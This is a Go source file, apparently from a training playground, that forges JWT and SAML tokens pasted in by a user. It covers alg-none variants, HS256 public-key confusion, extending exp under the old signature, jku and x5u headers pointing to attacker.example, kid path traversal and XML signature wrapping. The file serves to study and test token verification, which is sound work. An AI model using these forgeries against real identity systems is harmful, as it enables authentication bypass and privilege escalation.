package idp

import (
	"crypto/hmac"
	"crypto/sha256"
	"strings"

	"github.com/beevik/etree"

	"stsplayground/engine/source"
)

// Loot is a token that the playground didn't mint: an attacker has it, and not
// the key that signed it. Segments are its three as sent; Header and Claims are
// what the first two hold.
type Loot struct {
	Segments       [3]string
	Header, Claims *source.Node
	PublicPEM      []byte // of the issuer's key, as anyone can fetch it; nil where it isn't known
}

// Pasted says how an attack is staged on a token that was minted elsewhere,
// where that differs from what the mint does; the zero value where it doesn't.
var pastedTitles = map[string]Attack{
	"tampered-payload": {"tampered-payload", "Payload changed after signing", "The attacker writes a year more into exp and keeps the signature, for readers that don't verify it, or verify something else."},
}

// PastedAttack is the attack as it is staged on a token from elsewhere.
func PastedAttack(a Attack) Attack {
	if other, ok := pastedTitles[a.Name]; ok {
		return other
	}
	return a
}

const year = 365 * 24 * hour

// Forge stages an attack on a token whose key nobody here has; false where it
// takes the issuer's key, or something else that isn't at hand.
func (k *Keyring) Forge(loot *Loot, attack string) (compact string, ok bool) {
	header, claims := objectOf(loot.Header), objectOf(loot.Claims)
	signed, signature := loot.Segments[0]+"."+loot.Segments[1], loot.Segments[2]
	alg, known := algorithmOf(textOf(loot.Header, "alg"))
	if !known {
		alg = algorithms[0]
	}
	forge := func(name, value string) (string, bool) {
		honest := &key{kid: textOf(loot.Header, "kid"), alg: alg}
		if alg.curve != nil {
			honest = ecKey(keyName{"", honest.kid, alg.name}, alg)
		}
		forger := k.forger(honest)
		if name == "jwk" {
			value = forger.jwk().text()
		}
		t := token{header: header, claims: claims, key: forger, alg: alg}
		if name != "" {
			t.header = header.with(name, value)
		}
		return t.compact(), true
	}
	unsigned := func(alg, signature string) (string, bool) {
		return token{header: header.with("alg", quote(alg)), claims: claims}.input() + "." + signature, true
	}
	switch attack {
	case "alg-none":
		return unsigned("none", "")
	case "alg-none-mixed-case":
		return unsigned("nOnE", "")
	case "alg-none-with-signature":
		return unsigned("none", signature)
	case "hs256-public-key":
		if loot.PublicPEM == nil {
			return "", false
		}
		t := token{header: header.with("alg", `"HS256"`), claims: claims}
		mac := hmac.New(sha256.New, loot.PublicPEM)
		mac.Write([]byte(t.input()))
		return t.input() + "." + encode(mac.Sum(nil)), true
	case "tampered-payload":
		exp := loot.Claims.Get("exp")
		if exp == nil || len(exp.Text) > 12 || strings.Trim(exp.Text, "0123456789") != "" {
			return "", false
		}
		var seconds int64
		for _, digit := range exp.Text {
			seconds = seconds*10 + int64(digit-'0')
		}
		return loot.Segments[0] + "." + encode(claims.with("exp", number(seconds+year)).text()) + "." + signature, true
	case "tampered-signature":
		middle := len(signature) / 2
		if middle == 0 {
			return "", false
		}
		other := "A"
		if signature[middle] == 'A' {
			other = "B"
		}
		return signed + "." + signature[:middle] + other + signature[middle+1:], true
	case "empty-signature":
		return signed + ".", true
	case "wrong-key":
		return forge("", "")
	case "embedded-jwk":
		return forge("jwk", "")
	case "jku":
		return forge("jku", quote(attackerURL))
	case "x5u":
		return forge("x5u", quote("https://attacker.example/chain.pem"))
	case "kid-injection":
		return forge("kid", quote("../../../../dev/null"))
	case "padded-base64":
		return signed + "." + signature + strings.Repeat("=", max(1, (4-len(signature)%4)%4)), true
	case "newline-in-signature":
		return signed + "." + signature[:len(signature)/2] + "\n" + signature[len(signature)/2:], true
	case "bearer-prefix":
		return "Bearer " + signed + "." + signature, true
	}
	return "", false
}

func objectOf(n *source.Node) (o object) {
	for i := range n.Members {
		o.add(n.Members[i].Name, encodeNode(&n.Members[i].Value))
	}
	return o
}

func textOf(n *source.Node, name string) string {
	if value := n.Get(name); value != nil && value.Kind == source.String {
		return value.Text
	}
	return ""
}

// pastedResponses are the attacks that need nothing but the response itself.
var pastedResponses = map[string]bool{
	"xsw1": true, "xsw2": true, "xsw3": true, "xsw4": true, "xsw5": true, "xsw6": true, "xsw7": true, "xsw8": true,
	"second-assertion": true, "duplicate-id": true, "signature-in-wrong-place": true,
	"unsigned": true, "stripped": true, "tampered-name-id": true, "tampered-role": true, "doctype": true,
}

// ForgeResponse stages an attack on a response whose key nobody here has. root
// is it as sent; role, with its path, is what the forgery asks for. False where
// the attack takes the identity provider's key, or doesn't fit the response.
func (k *Keyring) ForgeResponse(root *etree.Element, role, attack string) (xml string, ok bool) {
	assertion := assertionOf(root)
	if !pastedResponses[attack] || assertion == nil {
		return "", false
	}
	d := &draft{profile: &responseProfiles[0], keyring: k, given: root, forgedRole: role}
	d.sign = signMode{assertion: signatureOf(assertion) != nil, response: signatureOf(root) != nil}
	if attack == "unsigned" {
		attack = "stripped" // and forged
		d.given = root.Copy()
		d.forge(assertionOf(d.given), "")
	}
	for i := range responseAttacks {
		if a := &responseAttacks[i]; a.Name == attack && (a.fits == nil || a.fits(d)) {
			return a.stage(d), true
		}
	}
	return "", false
}

// SuitsKey says whether an attack on a token can be staged with a key for that
// algorithm, and what kind of key it needs otherwise, with its article.
func SuitsKey(attack, alg string) (needs string, suits bool) {
	for i := range attacks {
		if a := &attacks[i]; a.Name == attack && a.fits != nil {
			named, _ := algorithmOf(alg)
			return a.needs, (a.needs == "an EC") == (named.curve != nil)
		}
	}
	return "", true
}
